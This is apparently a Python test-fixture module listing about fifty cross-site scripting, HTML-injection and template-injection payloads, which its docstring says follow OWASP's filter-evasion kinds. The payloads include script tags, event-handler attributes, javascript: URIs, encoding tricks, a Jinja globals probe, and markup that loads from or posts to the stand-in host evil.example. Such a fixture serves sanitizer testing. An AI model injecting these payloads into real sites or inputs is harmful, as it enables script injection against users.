"""What tries to be more than text: markup, attributes, addresses, templates, styles, and tricks with letters.

Each calls ``hacked`` (a dialog), or asks for ``evil.example``, if it ever runs or loads.
"""

from __future__ import annotations

PAYLOADS: tuple[str, ...] = (
    "<script>alert('hacked')</script>",
    "</script><script>alert('hacked')</script>",
    "</textarea></title></style><script>alert('hacked')</script>",
    "<img src=x onerror=alert('hacked')>",
    "<img src=https://evil.example/pixel.png>",
    "<svg onload=alert('hacked')>",
    "<svg><animate onbegin=alert('hacked') attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert('hacked')></style></svg>",
    "<iframe srcdoc=\"<script>parent.alert('hacked')</script>\"></iframe>",
    "<iframe src=javascript:alert('hacked')></iframe>",
    "<object data=https://evil.example/x></object>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<form action=https://evil.example/><button>x</button></form>",
    "<details open ontoggle=alert('hacked')>",
    "<input autofocus onfocus=alert('hacked')>",
    "<a href=javascript:alert('hacked')>x</a>",
    "\" autofocus onfocus=alert('hacked') x=\"",
    "' autofocus onfocus=alert('hacked') x='",
    "\"><script>alert('hacked')</script>",
    "'><img src=x onerror=alert('hacked')>",
    "` onmouseover=alert('hacked')",
    "javascript:alert('hacked')",
    "JaVaScRiPt:alert('hacked')",
    "java\tscript:alert('hacked')",
    "data:text/html,<script>alert('hacked')</script>",
    "vbscript:msgbox('hacked')",
    "{{ 7*7 }}{{ cycler.__init__.__globals__ }}",
    "{% for x in range(9) %}x{% endfor %}",
    "${alert('hacked')}#{alert('hacked')}",
    "%3Cscript%3Ealert('hacked')%3C/script%3E",
    "&lt;script&gt;alert('hacked')&lt;/script&gt;",
    "&#60;script&#62;alert('hacked')&#60;/script&#62;",
    "\u003cscript\u003ealert('hacked')\u003c/script\u003e",
    "＜script＞alert('hacked')＜/script＞",
    "<scr\u0000ipt>alert('hacked')</scr\u0000ipt>",
    "<!--><script>alert('hacked')</script-->",
    "]]><script>alert('hacked')</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('hacked')>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('hacked')>\">",
    "\u202e<script>alert('hacked')</script>",
    "x'});alert('hacked');//",
    "\\\";alert('hacked');//",
    "url(https://evil.example/x.png)",
    "expression(alert('hacked'))",
    "[x](javascript:alert('hacked'))",
    "![x](https://evil.example/x.png)",
)
"""Of own making, after the kinds that OWASP's filter evasion list names."""
EVERY = " ".join(PAYLOADS)
"""All of them in one text."""
